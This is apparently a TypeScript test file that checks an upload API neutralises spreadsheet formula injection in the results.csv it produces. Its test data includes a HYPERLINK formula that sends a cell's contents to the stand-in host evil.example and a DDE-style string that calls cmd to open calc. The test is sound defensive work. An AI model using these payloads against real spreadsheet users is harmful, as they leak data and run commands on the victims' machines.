import { parse as parseCsv } from 'csv-parse/sync';
import type { Response } from 'superagent';
import type { TestApp } from '../support/test-app';
import { bearer, startTestApp } from '../support/test-app';
import type { Firm } from './security-fixtures';
import { finished, firm } from './security-fixtures';

function text(res: Response, done: (err: Error | null, body: string) => void): void {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(Buffer.from(c)));
  res.on('end', () => done(null, Buffer.concat(chunks).toString('utf8')));
}

/** Issue 13, item 4: user text written into results.csv must not run as a formula in Excel or WPS. */
describe('security: formula injection in the files the API produces', () => {
  let t: TestApp;
  let maker: Firm;
  beforeAll(async () => {
    t = await startTestApp();
    maker = await firm(t, ['battery_maker']);
  });
  afterAll(async () => {
    await t?.close();
  });

  it('defuses client event ids (and reasons quoting them) that start with = + - @, tab or CR in results.csv', async () => {
    const ids = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3', '\t=1+1', '＝1+1', 'erp-0001'];
    const csv = [
      'type,batteryCodes,occurredAt,clientEventId',
      ...ids.map((id) => `repaired,NOT-A-CODE,2026-05-01T10:00:00+08:00,"${id.replace(/"/g, '""')}"`),
    ].join('\r\n');
    const res = await t
      .http()
      .post('/v1/uploads')
      .set(bearer(maker.key))
      .attach('file', Buffer.from(csv), { filename: 'e.csv', contentType: 'text/csv' })
      .expect(202);
    const state = await finished(t, res.body.id as string, maker.key);
    expect(state.counts.rejected).toBe(ids.length);

    const out = await t.http().get(`/v1/uploads/${res.body.id}/results.csv`).set(bearer(maker.key)).buffer(true).parse(text).expect(200);
    const rows = parseCsv(out.body as string, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.client_event_id)).toEqual([...ids.slice(0, -1).map((id) => `'${id.trim()}`), 'erp-0001']);
    // (cells are trimmed when read, so the tab-led id is stored as '=1+1'.) No cell of the file starts a formula.
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r＝]/);
  });
});
